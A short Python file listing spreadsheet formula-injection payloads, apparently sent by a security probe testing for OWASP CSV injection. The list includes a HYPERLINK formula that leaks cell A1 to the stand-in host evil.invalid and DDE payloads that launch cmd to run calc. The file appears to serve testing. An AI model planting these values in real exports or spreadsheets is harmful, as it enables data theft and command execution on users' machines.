"""Cell values a spreadsheet would run as formulas (OWASP CSV injection), as the probe sent them."""

PAYLOADS = [
    '=HYPERLINK("http://evil.invalid/?x="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
